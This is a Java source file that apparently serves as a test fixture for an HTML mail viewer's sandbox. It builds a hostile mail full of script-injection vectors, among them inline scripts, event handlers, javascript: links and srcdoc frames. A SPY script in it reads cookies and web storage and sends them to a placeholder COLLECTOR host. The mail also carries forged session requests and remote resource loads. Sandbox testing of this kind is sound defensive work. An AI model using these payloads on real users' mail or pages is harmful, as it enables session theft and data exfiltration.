package telltale.page;

/** A mail that tries everything that a page can do to run scripts, to read secrets, and to reach other servers. */
final class HostileMail {
    /** A script that reports everything that it can read, in the ways that a page has. */
    private static final String SPY = "var t='';try{t+=document.cookie}catch(e){}try{t+=localStorage.length}catch(e){}"
            + "try{t+=JSON.stringify(sessionStorage)}catch(e){}document.title='ran '+t;"
            + "new Image().src='COLLECTOR/image?'+t;fetch('COLLECTOR/fetch?'+t);"
            + "fetch('/app/api/v1/session',{credentials:'include'});navigator.sendBeacon('COLLECTOR/beacon',t);"
            + "location='COLLECTOR/location'";

    private static final String HOSTILE = """
            <!doctype html><html><head><title>A mail</title>
            <base href='COLLECTOR/base/' target='_self'>
            <meta http-equiv='refresh' content='0;url=COLLECTOR/refresh'>
            <meta http-equiv='Content-Security-Policy' content="script-src 'unsafe-inline'">
            <meta name='referrer' content='unsafe-url'>
            <link rel='stylesheet' href='COLLECTOR/style.css'><link rel='prefetch' href='COLLECTOR/prefetch'>
            <style>@import url('COLLECTOR/import.css'); @font-face{font-family:x;src:url('COLLECTOR/font')}
             p{font-family:x;background:url('COLLECTOR/background.png')}</style>
            <script>SPY</script><script src='COLLECTOR/script.js'></script></head>
            <body onload="SPY"><p id='text'>A harmless text</p>
            <img src='x' onerror="SPY"><svg onload="SPY"><script>SPY</script></svg>
            <video src='COLLECTOR/video' autoplay></video><audio src='COLLECTOR/audio' autoplay></audio>
            <iframe src='COLLECTOR/frame'></iframe><iframe srcdoc="<script>SPY</script>"></iframe>
            <object data='COLLECTOR/object'></object><embed src='COLLECTOR/embed'>
            <form action='COLLECTOR/form' method='post' target='_top'><input name='a' value='b'>
            <button id='submit'>Send</button></form>
            <form action='/app/api/v1/session' method='post'><button id='sign'>Sign</button></form>
            <a id='script' href="javascript:SPY">script</a>
            <a id='link' href='COLLECTOR/link' target='_top'>link</a>
            <img src='http://127.0.0.1:1/x.png'></body></html>""";

    private HostileMail() {}

    /**
     * @param collector the address to which everything that is read would be sent, without a slash at its end
     */
    static String reportingTo(String collector) {
        return HOSTILE.replace("SPY", SPY).replace("COLLECTOR", collector);
    }
}
